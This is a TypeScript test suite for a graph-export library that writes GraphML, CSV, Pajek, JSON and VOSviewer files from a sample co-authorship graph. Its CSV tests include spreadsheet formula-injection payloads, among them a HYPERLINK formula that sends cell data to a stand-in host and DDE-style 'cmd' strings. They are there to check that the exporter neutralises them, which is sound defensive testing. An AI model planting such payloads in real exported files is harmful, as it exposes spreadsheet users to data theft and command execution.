import Graph from 'graphology';
import { parse as parseGraphml } from 'graphology-graphml';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula, spreadsheetField, writeCsv } from '../../src/export/csv.ts';
import { planExport } from '../../src/export/file-plan.ts';
import { writeGraphml } from '../../src/export/graphml.ts';
import { exportGraphJson } from '../../src/export/json.ts';
import { EXPORT_LAYERS, layerEdges, layerNodes } from '../../src/export/layers.ts';
import { writePajek } from '../../src/export/pajek.ts';
import {
  buildVosviewerMap,
  type VosviewerItem,
  vosviewerExport,
  writeVosviewer,
} from '../../src/export/vosviewer.ts';
import { MAP_LAYERS } from '../../src/model/graph-schema.ts';
import { sampleAnalysedGraph } from '../helpers/sample-graph.ts';
import { vosviewerRuleViolations } from './vosviewer-rules.ts';
import { xmllint, xmllintSkipReason } from './xmllint.ts';

/** The sample graph plus a paper whose texts need every kind of quoting. */
function hostileGraph() {
  const graph = sampleAnalysedGraph();
  graph.mergeNodeAttributes('paper:p2', {
    title: 'Commas, "quotes"\nand a new line',
    abstract: ' leading space & <angle> ',
  });
  return graph;
}

describe('GraphML', () => {
  it.skipIf(xmllintSkipReason !== undefined)(
    `is well-formed XML${xmllintSkipReason ? ` (skipped: ${xmllintSkipReason})` : ''}`,
    () => {
      const result = xmllint(writeGraphml(hostileGraph()));
      expect(result.ok, result.output).toBe(true);
      expect(xmllint('<graphml><graph></graphml>').ok).toBe(false);
    },
  );

  it('reads back through graphology-graphml: keys, directions, typed attributes', () => {
    const graph = hostileGraph();
    const back = parseGraphml(Graph, writeGraphml(graph));
    expect(back.order).toBe(graph.order);
    expect(back.size).toBe(graph.size);
    expect(back.nodes()).toEqual(graph.nodes());
    expect(back.edges()).toEqual(graph.edges());
    expect(back.getNodeAttributes('paper:p2')).toMatchObject({
      kind: 'paper',
      year: 2023,
      pagerank: 0.3,
      title: 'Commas, "quotes"\nand a new line',
      abstract: ' leading space & <angle> ',
      color: '#2ca02c',
    });
    expect(back.getNodeAttribute('author:ada-lovelace', 'community')).toBe(0);
    expect(back.isDirected('authored:ada-lovelace->p1')).toBe(true);
    expect(back.isUndirected('coauthor:ada-lovelace--grace-ohopper')).toBe(true);
    expect(back.getEdgeAttributes('coauthor:ada-lovelace--charles-babbage')).toMatchObject({
      kind: 'coauthor',
      weight: 2,
      papers: '["p1","p2"]',
    });
  });

  it('writes one layer with its own edge default', () => {
    const back = parseGraphml(Graph, writeGraphml(sampleAnalysedGraph(), { layer: 'citations' }));
    expect([back.order, back.size, back.type]).toEqual([4, 2, 'directed']);
  });
});

describe('CSV', () => {
  it('quotes per RFC 4180', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField(undefined)).toBe('');
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP), numbers stay numbers', () => {
    expect(neutraliseFormula('=HYPERLINK("http://x.test","click")')).toBe(
      '\'=HYPERLINK("http://x.test","click")',
    );
    expect(neutraliseFormula('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(neutraliseFormula('+Person')).toBe("'+Person");
    expect(neutraliseFormula('-2+3+cmd|x')).toBe("'-2+3+cmd|x");
    expect(neutraliseFormula('\t=1')).toBe("'\t=1");
    expect(neutraliseFormula('\r=1')).toBe("'\r=1");
    for (const number of ['-3', '+4', '-0.5', '-1e-7', '12']) expect(neutraliseFormula(number)).toBe(number);
    for (const text of ['Ada Lovelace', "O'Hopper", 'a=b', ' =1', ''])
      expect(neutraliseFormula(text)).toBe(text);
    expect(spreadsheetField(-3)).toBe('-3');
    expect(spreadsheetField('=1+1')).toBe("'=1+1");
    expect(spreadsheetField('=A1,B2')).toBe('"\'=A1,B2"');
    expect(spreadsheetField('a;=1+1')).toBe('"a;=1+1"');
    expect(spreadsheetField('\t=1')).toBe("'\t=1");
  });

  it('writes no cell that starts a formula, and only there changes the text', () => {
    const graph = sampleAnalysedGraph();
    const hostile = {
      'paper:p1': { title: '=HYPERLINK("http://x.test/?"&A1,"Open")', venue: '@SUM(1+1)', year: -3 },
      'author:ada-lovelace': { label: '+Person', name: '-Lovelace', communityLabel: '\tTab' },
      'paper:p2': { abstract: '\r=cmd', doi: '-10.1000/1' },
    };
    for (const [node, attributes] of Object.entries(hostile)) graph.mergeNodeAttributes(node, attributes);
    const { nodes, edges } = writeCsv(graph);
    for (const text of [nodes, edges]) {
      const rows = Papa.parse<string[]>(text.trimEnd(), { newline: '\r\n' });
      expect(rows.errors).toEqual([]);
      for (const cell of rows.data.flat()) {
        if (/^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?$/i.test(cell)) continue; // a number
        expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const rows = Papa.parse<Record<string, string>>(nodes.trimEnd(), { header: true, newline: '\r\n' });
    const byId = Object.fromEntries(rows.data.map((row) => [row.id, row]));
    expect(byId['paper:p1']).toMatchObject({
      title: '\'=HYPERLINK("http://x.test/?"&A1,"Open")',
      venue: "'@SUM(1+1)",
      year: '-3',
    });
    expect(byId['author:ada-lovelace']).toMatchObject({
      label: "'+Person",
      name: "'-Lovelace",
      communityLabel: "'\tTab",
    });
    expect(byId['paper:p2']).toMatchObject({ abstract: "'\r=cmd", doi: "'-10.1000/1" });
    // Without neutralisation (a file for programs, not spreadsheets) the text is as it was.
    const raw = Papa.parse<Record<string, string>>(
      writeCsv(graph, { neutraliseFormulas: false }).nodes.trimEnd(),
      {
        header: true,
        newline: '\r\n',
      },
    );
    expect(raw.data.find((row) => row.id === 'paper:p1')?.venue).toBe('@SUM(1+1)');
  });

  it('reads back with papaparse: same rows, ids and values', () => {
    const graph = hostileGraph();
    const { nodes, edges } = writeCsv(graph);
    expect(nodes.endsWith('\r\n')).toBe(true);
    const nodeRows = Papa.parse<Record<string, string>>(nodes.trimEnd(), { header: true, newline: '\r\n' });
    expect(nodeRows.errors).toEqual([]);
    expect(nodeRows.data.map((row) => row.id)).toEqual(graph.nodes());
    const p2 = nodeRows.data.find((row) => row.id === 'paper:p2');
    expect(p2).toMatchObject({ kind: 'paper', year: '2023', title: 'Commas, "quotes"\nand a new line' });
    expect(p2?.abstract).toBe(' leading space & <angle> ');
    expect(JSON.parse(p2?.sources ?? '')).toEqual(['sample.txt:1 (author-page)']);

    const edgeRows = Papa.parse<Record<string, string>>(edges.trimEnd(), { header: true, newline: '\r\n' });
    expect(edgeRows.errors).toEqual([]);
    expect(edgeRows.data).toHaveLength(graph.size);
    expect(edgeRows.meta.fields?.slice(0, 4)).toEqual(['id', 'source', 'target', 'directed']);
    const coauthor = edgeRows.data.find((row) => row.id === 'coauthor:ada-lovelace--charles-babbage');
    expect(coauthor).toMatchObject({
      source: 'author:ada-lovelace',
      directed: 'false',
      weight: '2',
      papers: '["p1","p2"]',
    });
    expect(edgeRows.data.find((row) => row.id === 'cites:p3->p1')?.directed).toBe('true');
  });
});

describe('graphology JSON', () => {
  it('is graph.export(), restricted by layer', () => {
    const graph = sampleAnalysedGraph();
    expect(exportGraphJson(graph)).toEqual(graph.export());
    const themes = Graph.from(exportGraphJson(graph, { layer: 'themes' }));
    expect([themes.order, themes.size]).toEqual([3, 1]);
    expect(themes.getAttribute('name')).toBe('sample');
  });
});

/** A small Pajek reader for the test: vertices, arcs and edges. */
function readPajek(text: string) {
  const lines = text.split(/\r?\n/).filter((line) => line.trim() !== '');
  const vertices: { n: number; label: string; coords: number[] }[] = [];
  const links: { section: string; s: number; t: number; w: number }[] = [];
  let section = '';
  for (const line of lines) {
    if (line.startsWith('*')) {
      section = line.split(' ')[0]?.toLowerCase() ?? '';
      continue;
    }
    if (section === '*vertices') {
      const match = /^(\d+) "([^"]*)"(.*)$/.exec(line);
      if (!match) throw new Error(`bad vertex line: ${line}`);
      vertices.push({
        n: Number(match[1]),
        label: match[2] ?? '',
        coords: (match[3] ?? '').trim().split(/\s+/).filter(Boolean).map(Number),
      });
    } else {
      const [s, t, w] = line.split(/\s+/).map(Number);
      links.push({ section, s: s ?? 0, t: t ?? 0, w: w ?? Number.NaN });
    }
  }
  return { header: lines[0], vertices, links };
}

describe('Pajek', () => {
  it('parses back: numbered quoted vertices, arcs for directed and edges for undirected links', () => {
    const graph = sampleAnalysedGraph();
    graph.mergeNodeAttributes('author:grace-ohopper', { label: 'Grace "Amazing" Hopper' });
    const { header, vertices, links } = readPajek(writePajek(graph));
    expect(header).toBe(`*Vertices ${graph.order}`);
    expect(vertices.map((v) => v.n)).toEqual(graph.nodes().map((_, i) => i + 1));
    const keyOf = (n: number) => graph.nodes()[n - 1];
    expect(vertices.find((v) => keyOf(v.n) === 'author:grace-ohopper')?.label).toBe("Grace 'Amazing' Hopper");
    for (const v of vertices) for (const c of v.coords.slice(0, 2)) expect(c).toBeGreaterThanOrEqual(0);
    expect(links).toHaveLength(graph.size);
    for (const { section, s, t, w } of links) {
      const edge = graph.edges(keyOf(s), keyOf(t)).find((e) => graph.getEdgeAttribute(e, 'weight') === w);
      expect(edge, `${s} ${t} ${w}`).toBeDefined();
      expect(section).toBe(graph.isDirected(edge!) ? '*arcs' : '*edges');
    }
  });
});

describe('Pajek for igraph and networkx', () => {
  it('writes only the sections that have edges (a trailing *Edges makes readers drop directions)', () => {
    const citations = writePajek(sampleAnalysedGraph(), { layer: 'citations' });
    expect(citations).toContain('*Arcs\r\n');
    expect(citations).not.toContain('*Edges');
    const coauthorship = writePajek(sampleAnalysedGraph(), { layer: 'coauthorship' });
    expect(coauthorship).not.toContain('*Arcs');
    expect(coauthorship).toContain('*Edges\r\n');
  });

  it('writes labels every reader splits the same way: no quote, no line break, no backslash pair or trailing one', () => {
    const graph = sampleAnalysedGraph();
    graph.mergeNodeAttributes('author:ada-lovelace', { label: 'ends with\\' });
    graph.mergeNodeAttributes('author:charles-babbage', { label: 'a\\\\b \\alpha' });
    graph.mergeNodeAttributes('author:grace-ohopper', { label: 'say "hi"\r\nthere' });
    const { vertices } = readPajek(writePajek(graph, { layer: 'coauthorship' }));
    expect(vertices.map((v) => v.label).slice(0, 3)).toEqual([
      'ends with/',
      'a/\\b \\alpha',
      "say 'hi' there",
    ]);
  });

  it('adds the key to labels two nodes share, since networkx keys nodes by label', () => {
    const graph = sampleAnalysedGraph();
    graph.mergeNodeAttributes('author:grace-ohopper', { label: 'Ada Lovelace' });
    graph.mergeNodeAttributes('author:alan-turing', { label: 'Alan\nTuring' });
    graph.mergeNodeAttributes('author:charles-babbage', { label: 'Alan Turing' });
    const { vertices } = readPajek(writePajek(graph, { layer: 'coauthorship' }));
    expect(vertices.map((v) => v.label)).toEqual([
      'Ada Lovelace [author:ada-lovelace]',
      'Alan Turing [author:charles-babbage]',
      'Ada Lovelace [author:grace-ohopper]',
      'Alan Turing [author:alan-turing]',
    ]);
  });
});

describe('VOSviewer JSON', () => {
  it('has consistent ids, links and 1-based clusters', () => {
    const { network, config } = buildVosviewerMap(sampleAnalysedGraph());
    expect(config.terminology?.item).toBe('author');
    const ids = network.items.map((item) => item.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toEqual([1, 2, 3, 4]);
    for (const link of network.links) {
      expect(ids).toContain(link.source_id);
      expect(ids).toContain(link.target_id);
      expect(link.source_id).not.toBe(link.target_id);
      expect(link.strength).toBeGreaterThan(0);
    }
    const clusters = network.items.map((item) => item.cluster);
    for (const cluster of clusters) expect(Number.isInteger(cluster) && (cluster ?? 0) >= 1).toBe(true);
    expect(new Set(clusters)).toEqual(new Set([1, 2]));
    const ada = network.items.find((item) => item.label === 'Ada Lovelace');
    // Citations: her papers p1 (cited once) and p2.
    expect(ada?.weights).toEqual({ Links: 2, 'Total link strength': 3, Documents: 2, Citations: 1 });
  });

  it("meets VOSviewer Online's reader rules on every layer, field by field", () => {
    // The sample graph has no bibliometric maps: their layers are checked in maps-export.test.ts.
    for (const layer of EXPORT_LAYERS.filter((name) => !(MAP_LAYERS as readonly string[]).includes(name))) {
      const map = JSON.parse(writeVosviewer(sampleAnalysedGraph(), { layer }));
      expect(vosviewerRuleViolations(map), layer).toEqual([]);
      const keys = map.network.items.map((item: VosviewerItem) => Object.keys(item.weights).join());
      expect(new Set(keys), layer).toEqual(new Set(['Links,Total link strength,Documents,Citations']));
    }
    // The rules catch what the old export wrote: items without the other kinds' weight keys.
    const old = buildVosviewerMap(sampleAnalysedGraph(), { layer: 'all' });
    for (const item of old.network.items)
      if (item.label.startsWith('Ada')) delete (item.weights as Record<string, number>).Citations;
    expect(vosviewerRuleViolations(old).join()).toMatch(/weight<Citations> is null/);
  });

  it('carries cluster labels and colours from the analysis', () => {
    const { network, config } = buildVosviewerMap(sampleAnalysedGraph(), { layer: 'authorship' });
    expect(network.clusters).toEqual([
      { cluster: 1, label: 'Ada Lovelace, Charles Babbage' },
      { cluster: 2, label: 'Alan Turing' },
      { cluster: 3, label: 'analytical engine' },
      { cluster: 4, label: 'computable numbers' },
    ]);
    expect(config.color_schemes.cluster_colors).toEqual([
      { cluster: 1, color: '#1f77b4' },
      { cluster: 2, color: '#ff7f0e' },
      { cluster: 3, color: '#2ca02c' },
      { cluster: 4, color: '#d62728' },
    ]);
    const p3 = network.items.find((item) => item.label === 'On Computable Numbers');
    expect(p3?.cluster).toBe(4);
  });

  it('renumbers communities and leaves unclustered nodes without a cluster', () => {
    const graph = sampleAnalysedGraph();
    graph.mergeNodeAttributes('author:alan-turing', { community: 7 });
    graph.mergeNodeAttributes('author:grace-ohopper', { community: -1 });
    const { network } = buildVosviewerMap(graph);
    const byLabel = Object.fromEntries(network.items.map((item) => [item.label, item.cluster]));
    expect(byLabel).toEqual({
      'Ada Lovelace': 1,
      'Charles Babbage': 1,
      "Grace O'Hopper": undefined,
      'Alan Turing': 2,
    });
    // No summary for community 7: the label comes from its members' communityLabel.
    expect(network.clusters.map((c) => c.label)).toEqual(['Ada Lovelace, Charles Babbage', 'Alan Turing']);
    graph.mergeNodeAttributes('author:alan-turing', { communityLabel: '' });
    expect(buildVosviewerMap(graph).network.clusters[1]?.label).toBe('Collaboration group 7');
  });

  it('keeps the 1000 largest of more communities and says so', () => {
    const graph = sampleAnalysedGraph();
    for (let i = 0; i < 1001; i++) {
      graph.addNode(`author:x${i}`, {
        kind: 'author',
        label: `X ${i}`,
        authorId: `x${i}`,
        name: `X ${i}`,
        key: `x ${i}`,
        authorKind: 'person',
        paperCount: 1,
        community: 100 + i,
        color: '#abcdef',
        x: i,
        y: -i,
      });
    }
    const { map, notes } = vosviewerExport(graph);
    expect(vosviewerRuleViolations(map)).toEqual([]);
    expect(new Set(map.network.items.map((item) => item.cluster)).size).toBe(1001); // 1000 and none
    expect(notes).toEqual([
      'vosviewer: VOSviewer shows at most 1000 clusters, so the 3 smallest of 1003 communities (3 items) have no cluster',
    ]);
  });

  it('writes positions for every item or for none', () => {
    const graph = sampleAnalysedGraph();
    graph.removeNodeAttribute('author:alan-turing', 'x');
    const { map, notes } = vosviewerExport(graph);
    expect(map.network.items.every((item) => item.x === undefined && item.y === undefined)).toBe(true);
    expect(vosviewerRuleViolations(map)).toEqual([]);
    expect(notes[0]).toMatch(/1 of 4 items have no position/);
  });

  it('sums both directions of a pair into one link, and says what VOSviewer does not keep', () => {
    const graph = sampleAnalysedGraph();
    graph.addDirectedEdgeWithKey('cites:p1->p3', 'paper:p1', 'paper:p3', { kind: 'cites', weight: 2 });
    const { map, notes } = vosviewerExport(graph, { layer: 'citations' });
    const pairs = map.network.links.map((l) => `${l.source_id}-${l.target_id}`);
    expect(new Set(pairs).size).toBe(pairs.length);
    expect(map.network.links.find((l) => l.strength === 3)).toBeDefined();
    expect(notes).toEqual([
      'vosviewer: VOSviewer has one undirected link per pair of items: 3 directed edges lost their direction, 1 edges were added to the link of a pair that already had one',
    ]);
    expect(vosviewerExport(sampleAnalysedGraph()).notes).toEqual([]);
  });
});

describe('file plan', () => {
  it('writes GraphML and Pajek of a graph with both directions one layer per file, and says so', () => {
    const graph = sampleAnalysedGraph();
    const plan = planExport(graph, 'graphml', 'all', 'out/graph.graphml');
    expect(plan.files).toEqual([
      { path: 'out/graph.coauthorship.graphml', layer: 'coauthorship', edges: 3, directions: 'undirected' },
      { path: 'out/graph.citations.graphml', layer: 'citations', edges: 2, directions: 'directed' },
      { path: 'out/graph.themes.graphml', layer: 'themes', edges: 1, directions: 'undirected' },
      { path: 'out/graph.authorship.graphml', layer: 'authorship', edges: 6, directions: 'directed' },
    ]);
    expect(plan.notes).toEqual([
      'graphml: networkx and igraph hold one edge direction per graph, so the 12 edges of layer all (directed and undirected) were written one layer per file: coauthorship (3 undirected), citations (2 directed), themes (1 undirected), authorship (6 directed)',
    ]);
    // Every node and edge is in one of the files.
    const nodes = new Set(plan.files.flatMap((file) => [...layerNodes(graph, file.layer)].map((n) => n.key)));
    const edges = plan.files.flatMap((file) => [...layerEdges(graph, file.layer)].map((e) => e.key));
    expect(nodes.size).toBe(graph.order);
    expect(edges.sort()).toEqual(graph.edges().sort());
    expect(planExport(graph, 'pajek', 'all', 'net').files.map((f) => f.path)).toEqual([
      'net.coauthorship',
      'net.citations',
      'net.themes',
      'net.authorship',
    ]);
  });

  it('keeps one file where the program holds the graph', () => {
    const graph = sampleAnalysedGraph();
    for (const format of ['gexf', 'csv', 'json', 'vosviewer', 'neo4j-import'] as const) {
      expect(planExport(graph, format, 'all', 'x')).toEqual({
        files: [{ path: 'x', layer: 'all', edges: 12, directions: 'mixed' }],
        notes: [],
      });
    }
    expect(planExport(graph, 'graphml', 'citations', 'c.graphml')).toEqual({
      files: [{ path: 'c.graphml', layer: 'citations', edges: 2, directions: 'directed' }],
      notes: [],
    });
    const undirectedOnly = sampleAnalysedGraph();
    for (const edge of undirectedOnly.directedEdges()) undirectedOnly.dropEdge(edge);
    expect(planExport(undirectedOnly, 'pajek', 'all', 'a.net').files).toHaveLength(1);
  });
});
